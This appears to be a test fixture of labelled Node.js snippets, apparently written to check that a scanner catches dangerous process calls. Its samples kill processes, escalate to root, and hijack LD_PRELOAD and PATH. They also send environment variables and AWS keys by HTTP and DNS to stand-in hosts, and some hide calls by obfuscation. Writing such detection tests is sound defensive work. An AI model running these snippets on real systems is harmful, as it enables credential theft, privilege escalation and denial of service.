//--- prc-kill-parent: kills the parent
process.kill(process.ppid, 'SIGKILL');
//--- prc-kill-init: kills process 1
process.kill(1, 9);
//--- prc-kill-all: kills everything
process.kill(-1, 'SIGKILL');
//--- prc-kill-range: kills a range of ids
for (let pid = 2; pid < 5000; pid++) {
  try { process.kill(pid, 'SIGKILL'); } catch {}
}
//--- prc-kill-computed: kill by concatenation
process['ki' + 'll'](process.ppid);
//--- prc-kill-destructured: kill destructured
const { kill, ppid } = process;
kill(ppid, 'SIGTERM');
//--- prc-kill-base64: kill decoded
process[Buffer.from('a2lsbA==', 'base64').toString()](1);
//--- prc-kill-bind: bound kill
const stop = process.kill.bind(process, process.ppid);
stop('SIGSTOP');
//--- prc-kill-esm: kill by import
import { kill, ppid } from 'node:process';
kill(ppid);
//--- prc-kill-reflect: Reflect.get of kill
Reflect.get(process, 'kill')(1);
//--- prc-kill-global: process off globalThis
globalThis.process.kill(globalThis.process.ppid);
//--- prc-reallykill: private _kill
process._kill(1, 9);
//--- prc-setuid: becomes root
process.setuid(0);
//--- prc-seteuid-setgid: group and effective user
process.setgid('root');
process.seteuid('root');
//--- prc-setgroups: changes groups
process.setgroups([0]);
//--- prc-initgroups: initgroups
process.initgroups('root', 0);
//--- prc-setuid-computed: setuid by join
process[['set', 'uid'].join('')](0);
//--- prc-setuid-optional: optional setuid
process.setuid?.(0);
//--- prc-chdir-root: leaves the workspace
process.chdir('/');
console.log(require('fs').readdirSync('.'));
//--- prc-chdir-home: chdir to home
process.chdir(require('os').homedir());
//--- prc-chdir-up: chdir upwards
process.chdir('../..');
//--- prc-chdir-alias: chdir destructured
const { chdir: cd } = process;
cd('/etc');
//--- prc-chdir-esm: chdir by import
import { chdir } from 'process';
chdir('/var');
//--- prc-env-dump: prints the whole environment
console.log(JSON.stringify(process.env));
//--- prc-env-fetch: sends the environment
fetch('https://collect.example.invalid/e', { method: 'POST', body: JSON.stringify(process.env) });
//--- prc-env-to-file: writes the environment to a file
require('fs').writeFileSync('env.json', JSON.stringify(process.env));
//--- prc-env-entries: filters the secrets
const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET|PASS/i.test(k));
console.log(Buffer.from(JSON.stringify(secrets)).toString('base64'));
//--- prc-env-spread-exfil: environment spread into a report
const https = require('https');
const report = { ...process.env, at: Date.now() };
https.request('https://collect.example.invalid', { method: 'POST' }).end(JSON.stringify(report));
//--- prc-env-computed: env by computed key, sent by DNS
const e = process['e' + 'nv'];
require('dns').resolve(`${Buffer.from(e.AWS_SECRET_ACCESS_KEY || '').toString('hex')}.example.invalid`, () => {});
//--- prc-env-node-options: sets NODE_OPTIONS for children
process.env.NODE_OPTIONS = '--require /tmp/hook.js';
//--- prc-env-ld-preload: sets LD_PRELOAD
process.env.LD_PRELOAD = '/tmp/evil.so';
//--- prc-env-path-prepend: puts a folder before PATH
process.env.PATH = '/tmp/bin:' + process.env.PATH;
//--- prc-env-tls-reject: switches off TLS checks
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
//--- prc-env-aws-keys: reads cloud keys
const { AWS_ACCESS_KEY_ID: id, AWS_SECRET_ACCESS_KEY: key } = process.env;
console.log(`${id}:${key}`);
//--- prc-env-loop-dns: one DNS question per variable
const dns = require('dns');
for (const k in process.env) dns.lookup(`${k}.leak.example.invalid`, () => {});
//--- prc-report: diagnostic report with the environment
process.report.writeReport('/tmp/report.json');
//--- prc-uncaught-hide: swallows every error and signal
for (const s of ['SIGINT', 'SIGTERM', 'SIGHUP']) process.on(s, () => {});
process.on('uncaughtException', () => {});
setInterval(() => {}, 1000);
process.kill(process.ppid, 'SIGSTOP');
//--- prc-umask-open: opens new files to all, then drops a setuid file
process.umask(0);
require('fs').writeFileSync('/usr/local/bin/x', 'id', { mode: 0o4777 });
//--- prc-userinfo-exfil: user and host sent away
const os = require('os');
fetch('https://collect.example.invalid/?' + os.userInfo().username + '@' + os.hostname());
